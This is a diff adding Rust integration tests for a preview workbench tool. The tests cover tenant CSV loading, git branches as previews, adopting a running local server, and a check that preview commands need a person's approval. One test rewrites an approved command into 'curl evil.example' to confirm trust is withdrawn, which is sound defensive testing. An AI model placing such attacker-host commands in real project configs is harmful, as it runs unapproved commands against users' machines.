@@ -1,0 +1,302 @@
+use std::fs;
+use std::io::{BufRead as _, BufReader};
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+
+use super::{Running, ids, until};
+use crate::workbench::{ServeError, TrustError};
+use crate::{ServerState, SourceStatus, WorkspaceState};
+
+/// Runs git in a folder, whatever this machine's configuration says.
+fn git(folder: &Path, arguments: &[&str]) {
+    let status = Command::new("git")
+        .current_dir(folder)
+        .args(["-c", "user.name=a", "-c", "user.email=a@b.example"])
+        .args([
+            "-c",
+            "init.defaultBranch=main",
+            "-c",
+            "commit.gpgsign=false",
+        ])
+        .args(arguments)
+        .env("GIT_CONFIG_GLOBAL", "/dev/null")
+        .env("GIT_CONFIG_NOSYSTEM", "1")
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .status()
+        .unwrap();
+    assert!(status.success(), "git {arguments:?}");
+}
+
+/// A workspace in a repository with the branches `main` and `feature/new`.
+fn repository(running: &Running, text: &str) -> PathBuf {
+    let folder = running.folder("app", text);
+    git(&folder, &["init", "-q"]);
+    git(&folder, &["add", "-A"]);
+    git(&folder, &["commit", "-qm", "the first"]);
+    git(&folder, &["branch", "feature/new"]);
+    folder
+}
+
+const GIT: &str = r#"{ "name": "shop", "tenants": [{ "id": "acme" }], "previews": [
+    { "git": ".", "dev": "serve --port {port}" }
+] }"#;
+
+fn names(state: &WorkspaceState) -> Vec<&str> {
+    let mut names: Vec<&str> = state
+        .previews
+        .iter()
+        .map(|preview| preview.name.as_str())
+        .collect();
+    names.sort_unstable();
+    names
+}
+
+/// A server that is none of ours: the shell that started it is gone. Ended with the test.
+struct Stranger {
+    pid: String,
+    port: u16,
+}
+
+impl Stranger {
+    fn start(folder: &Path) -> Self {
+        let script = "const s = require('http').createServer((q, r) => {
+            r.setHeader('content-type', 'text/html'); r.end('<h1>here</h1>'); });
+            s.listen(0, '127.0.0.1', () => console.log(s.address().port));";
+        let mut shell = Command::new("sh")
+            .current_dir(folder)
+            .args(["-c", "node -e \"$0\" & echo $!", script])
+            .stdout(Stdio::piped())
+            .spawn()
+            .unwrap();
+        let mut lines = BufReader::new(shell.stdout.take().unwrap()).lines();
+        let mut line = || lines.next().unwrap().unwrap();
+        let server = Self {
+            pid: line(),
+            port: line().parse().unwrap(),
+        };
+        assert!(shell.wait().unwrap().success());
+        server
+    }
+}
+
+impl Drop for Stranger {
+    fn drop(&mut self) {
+        let _ = Command::new("kill").args(["-9", &self.pid]).status();
+    }
+}
+
+#[tokio::test]
+async fn tenants_of_a_table_are_shown_and_followed() {
+    let running = Running::new();
+    let folder = running.folder(
+        "shop",
+        r#"{ "name": "shop", "tenants": { "file": "tenants.csv" },
+             "pages": [{ "name": "Home", "path": "/", "tenants": { "globex": "/g", "nobody": "/n" } }] }"#,
+    );
+    let table = folder.join("tenants.csv");
+    fs::write(&table, "id,name\nacme,Acme\nglobex,Globex\nBad Id,Bad\n").unwrap();
+    let mut states = running.workbench.state();
+    running.workbench.open(&folder).unwrap();
+    let state = until(&mut states, |now| {
+        now.tenant_list.status == SourceStatus::Good
+    })
+    .await;
+    assert_eq!(ids(&state), ["acme", "globex"]);
+    let told: Vec<_> = state
+        .problems
+        .iter()
+        .map(|problem| (problem.file.as_str(), problem.line))
+        .collect();
+    assert_eq!(told, [("tenants.csv", 4), ("tripledash.json", 2)]);
+
+    // Saved by another program.
+    fs::write(&table, "id\nacme\ninitech\n").unwrap();
+    let state = until(&mut states, |now| ids(now) == ["acme", "initech"]).await;
+    assert_eq!(state.tenant_list.status, SourceStatus::Good);
+
+    // Gone: those that were there stay, and it is said.
+    fs::remove_file(&table).unwrap();
+    let state = until(&mut states, |now| {
+        now.tenant_list.status == SourceStatus::Stale
+    })
+    .await;
+    assert_eq!(ids(&state), ["acme", "initech"]);
+    let message = state.tenant_list.message.clone().unwrap();
+    assert!(message.contains("tenants.csv"), "{message}");
+
+    fs::write(&table, "id\nglobex\n").unwrap();
+    until(&mut states, |now| ids(now) == ["globex"]).await;
+    running.finish().await;
+}
+
+#[tokio::test]
+async fn a_list_that_was_never_read_is_told_of() {
+    let running = Running::new();
+    let text = r#"{ "name": "shop", "tenants": { "file": "tenants.csv" } }"#;
+    let folder = running.folder("shop", text);
+    let mut states = running.workbench.state();
+    running.workbench.open(&folder).unwrap();
+    let state = until(&mut states, |now| {
+        now.tenant_list.status == SourceStatus::Failed
+    })
+    .await;
+    assert!(ids(&state).is_empty());
+    assert!(state.tenant_list.message.is_some());
+    running.finish().await;
+}
+
+#[tokio::test]
+async fn branches_are_previews_as_they_come_and_go() {
+    let running = Running::new();
+    let folder = repository(&running, GIT);
+    let mut states = running.workbench.state();
+    running.workbench.open(&folder).unwrap();
+    let state = until(&mut states, |now| now.previews.len() == 2).await;
+    assert_eq!(names(&state), ["feature-new", "main"]);
+    assert_eq!(state.sources[0].head.as_deref(), Some("main"));
+    let main = |state: &WorkspaceState| {
+        let mut previews = state.previews.iter();
+        previews
+            .find(|preview| preview.name == "main")
+            .unwrap()
+            .clone()
+    };
+    let shown = main(&state);
+    assert_eq!(shown.commit.unwrap().subject, "the first");
+    assert!(shown.checkout.unwrap().working_copy);
+    assert_eq!(shown.server.unwrap().state, ServerState::Stopped);
+    assert_eq!(shown.upstream, None);
+
+    git(&folder, &["branch", "release/1"]);
+    until(&mut states, |now| names(now).contains(&"release-1")).await;
+    git(&folder, &["branch", "-D", "-q", "feature/new"]);
+    until(&mut states, |now| names(now) == ["main", "release-1"]).await;
+
+    // What is checked out is another branch by now, and a commit of its own.
+    git(&folder, &["checkout", "-q", "release/1"]);
+    let state = until(&mut states, |now| {
+        now.sources[0].head.as_deref() == Some("release/1")
+    })
+    .await;
+    assert!(main(&state).checkout.is_none());
+    git(&folder, &["checkout", "-q", "--detach"]);
+    let state = until(&mut states, |now| now.previews.len() == 3).await;
+    let detached = state
+        .previews
+        .iter()
+        .find(|preview| preview.branch.is_none());
+    assert!(detached.unwrap().checkout.as_ref().unwrap().working_copy);
+    running.finish().await;
+}
+
+#[tokio::test]
+async fn a_folder_that_is_no_repository_says_so_until_it_is_one() {
+    let running = Running::new();
+    let folder = running.folder("app", GIT);
+    let mut states = running.workbench.state();
+    running.workbench.open(&folder).unwrap();
+    let state = until(&mut states, |now| {
+        now.sources
+            .first()
+            .is_some_and(|source| source.status == SourceStatus::Failed)
+    })
+    .await;
+    let message = state.sources[0].message.clone().unwrap();
+    assert!(message.contains("git init"), "{message}");
+    git(&folder, &["init", "-q"]);
+    git(&folder, &["add", "-A"]);
+    git(&folder, &["commit", "-qm", "the first"]);
+    running.workbench.refresh();
+    until(&mut states, |now| names(now) == ["main"]).await;
+    running.finish().await;
+}
+
+#[tokio::test]
+async fn a_server_that_runs_already_is_the_working_copy() {
+    let running = Running::new();
+    let folder = repository(&running, GIT);
+    let server = Stranger::start(&folder);
+    let port = server.port;
+    let _looking = running.workbench.look();
+    let mut states = running.workbench.state();
+    running.workbench.open(&folder).unwrap();
+    let served = |now: &WorkspaceState, name: &str| {
+        let mut previews = now.previews.iter();
+        previews.any(|preview| {
+            let server = preview.server.as_ref();
+            let adopted = server.is_some_and(|server| server.adopted && server.port == Some(port));
+            preview.name == name && adopted
+        })
+    };
+    let state = until(&mut states, |now| served(now, "main")).await;
+    let main = state
+        .previews
+        .iter()
+        .find(|preview| preview.name == "main")
+        .unwrap();
+    assert_eq!(main.upstream, Some(format!("http://localhost:{port}")));
+
+    // It serves another branch by now, and is named so.
+    git(&folder, &["checkout", "-q", "feature/new"]);
+    let state = until(&mut states, |now| served(now, "feature-new")).await;
+    assert!(!served(&state, "main"));
+
+    drop(server);
+    until(&mut states, |now| !served(now, "feature-new")).await;
+    running.finish().await;
+}
+
+#[tokio::test]
+async fn nothing_runs_before_a_person_has_seen_what() {
+    let running = Running::new();
+    let folder = repository(&running, GIT);
+    let mut states = running.workbench.state();
+    running.workbench.open(&folder).unwrap();
+    until(&mut states, |now| now.previews.len() == 2).await;
+    let refused = running.workbench.start_server("main");
+    let Err(ServeError::Untrusted { commands, .. }) = refused else {
+        panic!("{refused:?}");
+    };
+    assert_eq!(commands[0].line, "serve --port {port}");
+    let others = running.workbench.trust(true, &["serve".to_owned()]);
+    assert!(matches!(others, Err(TrustError::Changed)));
+    running
+        .workbench
+        .trust(true, &[commands[0].line.clone()])
+        .unwrap();
+    assert!(running.state().trust.unwrap().trusted);
+
+    // The file says something else by now.
+    let changed = GIT.replace("serve --port", "curl evil.example");
+    fs::write(folder.join("tripledash.json"), changed).unwrap();
+    until(&mut states, |now| {
+        now.trust.as_ref().is_some_and(|trust| !trust.trusted)
+    })
+    .await;
+    let refused = running.workbench.start_server("main");
+    assert!(matches!(refused, Err(ServeError::Untrusted { .. })));
+    let unknown = running.workbench.start_server("nobody");
+    assert!(matches!(unknown, Err(ServeError::NoPreview { .. })));
+    running.finish().await;
+}
+
+#[tokio::test]
+async fn an_unset_token_is_told_of_and_the_rest_works() {
+    let running = Running::new();
+    let folder = running.folder(
+        "shop",
+        r#"{ "name": "shop", "previews": [
+            { "vercel": { "project": "shop" } }, { "name": "main", "upstream": "http://localhost:1" }
+        ] }"#,
+    );
+    running.workbench.open(&folder).unwrap();
+    let state = running.state();
+    assert_eq!(names(&state), ["main"]);
+    assert_eq!(state.sources[0].status, SourceStatus::Failed);
+    assert_eq!(
+        state.sources[0].message.as_deref(),
+        Some("VERCEL_TOKEN is not set")
+    );
+    running.finish().await;
+}
